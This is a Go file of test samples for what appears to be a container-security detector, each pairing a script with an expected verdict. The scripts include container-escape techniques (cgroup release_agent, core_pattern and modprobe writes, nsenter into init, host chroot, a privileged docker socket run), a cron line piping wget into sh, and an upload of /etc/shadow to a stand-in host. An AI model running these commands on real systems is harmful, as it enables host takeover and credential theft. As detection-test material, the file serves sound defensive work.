package samples

import "slices"

// escapes try to leave the container. None gets anywhere: the sandbox has
// nothing of what they look for.
func escapes() []Sample {
	core := Spec{Entrypoint: []string{"/bin/sh", "-c", "echo '|/tmp/helper %P' > /proc/sys/kernel/core_pattern"}}
	return slices.Concat(baited(), []Sample{
		shows("escape-cgroup-agent/release-agent", script(`mkdir -p /tmp/cg
mount -t cgroup -o rdma cgroup /tmp/cg
mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
echo /helper > /tmp/cg/release_agent
echo tried
`), malicious, "/tmp/cg/release_agent", "cgroup"),
		nearly("escape-cgroup-agent/own-limits", script(`mkdir -p /tmp/cg
mount -t cgroup2 cgroup /tmp/cg
cat /sys/fs/cgroup/release_agent /tmp/cg/release_agent
echo max > /tmp/cg/memory.max
echo done
`)),
		shows("escape-core-pattern/pipe", core, malicious, "core_pattern"),
		shows("escape-core-pattern/modprobe", script("echo /tmp/helper > /proc/sys/kernel/modprobe\necho tried\n"), malicious, "/proc/sys/kernel/modprobe"),
		nearly("escape-core-pattern/read-and-limit", script("ulimit -c 0\ncat /proc/sys/kernel/core_pattern\necho core > /tmp/core_pattern\necho done\n")),
		shows("escape-nsenter-init/nsenter", script("nsenter -t 1 -m -n -p -- sh -c id\necho tried\n"), malicious, "nsenter -t 1"),
		shows("escape-nsenter-init/setns", acts("setns-init"), malicious, "/proc/1/ns/mnt"),
		nearly("escape-nsenter-init/own-namespaces", script("actor setns-own\nsleep 1 &\nnsenter -t $! -n true\necho done\n")),
		shows("escape-chroot-host/host-folder", script("chroot /host /bin/sh -c id\necho tried\n"), malicious, "chroot /host"),
		shows("escape-chroot-host/init-root", acts("chroot-proc"), malicious, "/proc/1/root"),
		nearly("escape-chroot-host/own-jail", script("mkdir -p /srv/jail\nchroot /srv/jail /bin/true\nchroot / /bin/sh -c true\necho done\n")),
		shows("escape-runc-overwrite/open-exe", acts("overwrite-exe"), malicious, "/proc/self/exe"),
		nearly("escape-runc-overwrite/self-update", acts("update-self")),
		shows("escape-runtime-sock/called", acts("docker-sock"), harmless, "/var/run/docker.sock"),
		shows("escape-runtime-sock/host-container", script("cp /bin/actor /tmp/docker\n/tmp/docker run --rm --privileged -v /:/host busybox chroot /host\necho tried\n"), malicious, "/:/host"),
		nearly("escape-runtime-sock/own-engine", acts("own-docker-sock")),
		shows("escape-userns-chain/netfilter", acts("userns-chain"), bad, "NETLINK_NETFILTER"),
		nearly("escape-userns-chain/sandbox", acts("userns-sandbox")),
	})
}

// baited try the same where they find what they look for: a socket that
// answers, a disk, the tree of a host, files of the kernel that can be written.
func baited() []Sample {
	list := []Sample{
		shows("escape-runtime-sock/container", acts("docker-sock-create"), malicious, "/var/run/docker.sock", "the host's disk", "alpine"),
		shows("escape-runtime-sock/monitor", acts("docker-sock"), harmless, "/var/run/docker.sock"),
		shows("escape-mount-device/found", script("for d in /dev/sd?1; do [ -b $d ] && mkdir -p /tmp/d && mount $d /tmp/d; done\necho tried\n"), malicious, "/dev/sda1", "/tmp/d"),
		nearly("escape-mount-device/listed", script("ls -l /dev > /tmp/devices\ncat /proc/partitions >> /tmp/devices\nfor d in /dev/sd?1; do [ -b $d ] && echo $d; done\necho done\n")),
		shows("cron-persistence/host", script("if [ -d /host/etc/cron.d ]; then\n  echo '* * * * * root wget -qO- http://203.0.113.64/x | sh' > /host/etc/cron.d/apt\nfi\necho done\n"), malicious, "/host/etc/cron.d/apt"),
		shows("canary-exfil/host", script("[ -r /host/etc/shadow ] && /bin/actor upload http://upload.evil.test/s /host/etc/shadow\necho done\n"), malicious, "upload.evil.test", "host_shadow"),
		nearly("canary-exfil/host-monitor", script("[ -r /host/etc/hostname ] && cat /host/etc/hostname /host/etc/os-release > /tmp/node\nexec /bin/actor http-get http://metrics.example.test/up\n")),
	}
	for i := range list {
		list[i].Profile = "thorough"
	}
	return list
}
